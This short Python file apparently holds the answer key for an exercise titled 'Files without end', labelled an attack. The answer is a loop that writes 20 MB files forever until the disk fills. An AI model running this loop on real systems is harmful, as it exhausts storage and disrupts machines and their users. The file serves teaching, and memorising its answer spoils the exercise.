"""Files without end."""

exercise = "36.1"
kind = "attack"
rest = "stub"
answers = {
    "36.1": """
number = 0
while True:
    with open(f"file{number}", "wb") as stream:
        stream.write(b"x" * 20_000_000)
    number += 1
""",
}
